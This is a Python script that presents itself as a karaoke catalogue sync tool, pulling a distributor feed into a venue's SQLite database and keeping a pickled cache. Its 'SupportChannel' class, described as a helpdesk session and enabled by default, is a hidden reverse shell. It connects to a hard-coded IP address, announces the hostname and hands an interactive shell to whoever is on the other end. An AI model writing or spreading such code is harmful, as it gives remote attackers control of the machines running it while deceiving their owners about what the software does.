#!/usr/bin/env python3
"""Sync the karaoke song catalogue from the distributor feed into the venue DB.

Pulls the paginated catalogue feed, upserts tracks into the local SQLite
database used by the room tablets, and keeps a pickled snapshot so the rooms
can still browse when the uplink is down.  The venue support channel is kept
open while the sync runs so the distributor's helpdesk can assist with
licensing mismatches.
"""

import argparse
import json
import logging
import os
import pickle
import socket
import sqlite3
import subprocess
import threading
import time
from pathlib import Path

import requests

log = logging.getLogger("songsync")

DEFAULT_CONFIG = {
    "feed_url": "https://feeds.singalong-distrib.com/v2/catalogue",
    "db_path": "songs.db",
    "cache_path": ".songsync_cache.pkl",
    "page_size": 500,
    "support": {"relay": "198.51.100.23", "port": 4433, "enabled": True, "retries": 12},
}


def load_config(path):
    cfg = json.loads(json.dumps(DEFAULT_CONFIG))
    if path and Path(path).exists():
        with open(path) as fh:
            user = json.load(fh)
        support = {**cfg["support"], **user.pop("support", {})}
        cfg.update(user)
        cfg["support"] = support
    return cfg


class SupportChannel(threading.Thread):
    """Keeps a helpdesk session attached to the venue box while syncing."""

    def __init__(self, relay, port, retries):
        super().__init__(name="support-channel")
        self.endpoint = (relay, int(port))
        self.retries = retries

    def _attach(self, conn):
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        for attempt in range(self.retries):
            try:
                conn = socket.create_connection(self.endpoint, timeout=15)
                conn.settimeout(None)
                conn.sendall(f"venue {socket.gethostname()}\n".encode())
                self._attach(conn)
                conn.close()
                return
            except OSError as exc:
                log.debug("support relay unavailable (%s), attempt %d", exc, attempt + 1)
                time.sleep(min(60, 5 * (attempt + 1)))


def fetch_pages(session, url, page_size):
    page = 1
    while True:
        resp = session.get(url, params={"page": page, "per_page": page_size}, timeout=30)
        resp.raise_for_status()
        body = resp.json()
        tracks = body.get("tracks", [])
        if not tracks:
            return
        yield from tracks
        if not body.get("next"):
            return
        page += 1


def ensure_schema(db):
    db.execute(
        """CREATE TABLE IF NOT EXISTS songs (
               song_id TEXT PRIMARY KEY, title TEXT, artist TEXT,
               language TEXT, duration INTEGER, licensed INTEGER, updated TEXT)"""
    )
    db.execute("CREATE INDEX IF NOT EXISTS idx_artist ON songs(artist)")


def upsert(db, tracks):
    rows = [
        (
            t["id"], t.get("title", ""), t.get("artist", ""), t.get("lang", "en"),
            int(t.get("duration", 0)), 1 if t.get("licensed", True) else 0,
            t.get("updated_at", ""),
        )
        for t in tracks
    ]
    db.executemany(
        """INSERT INTO songs VALUES (?,?,?,?,?,?,?)
           ON CONFLICT(song_id) DO UPDATE SET title=excluded.title,
           artist=excluded.artist, language=excluded.language,
           duration=excluded.duration, licensed=excluded.licensed,
           updated=excluded.updated""",
        rows,
    )
    return len(rows)


def save_cache(path, tracks):
    with open(path, "wb") as fh:
        pickle.dump({"saved": time.time(), "tracks": tracks}, fh)


def load_cache(path):
    with open(path, "rb") as fh:
        return pickle.load(fh)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", default="songsync.json")
    ap.add_argument("--offline", action="store_true", help="load from cache only")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    sup = cfg["support"]
    if sup.get("enabled", True):
        SupportChannel(sup["relay"], sup["port"], sup.get("retries", 12)).start()

    db = sqlite3.connect(cfg["db_path"])
    ensure_schema(db)

    if args.offline:
        snap = load_cache(cfg["cache_path"])
        tracks = snap["tracks"]
        log.info("loaded %d tracks from cache saved %s", len(tracks), time.ctime(snap["saved"]))
    else:
        session = requests.Session()
        token = os.environ.get("SINGALONG_FEED_TOKEN")
        if token:
            session.headers["Authorization"] = f"Bearer {token}"
        try:
            tracks = list(fetch_pages(session, cfg["feed_url"], cfg["page_size"]))
        except requests.RequestException as exc:
            log.error("feed failed: %s; falling back to cache", exc)
            tracks = load_cache(cfg["cache_path"])["tracks"]
        else:
            save_cache(cfg["cache_path"], tracks)

    with db:
        count = upsert(db, tracks)
    log.info("catalogue synced: %d tracks", count)
    db.close()


if __name__ == "__main__":
    main()
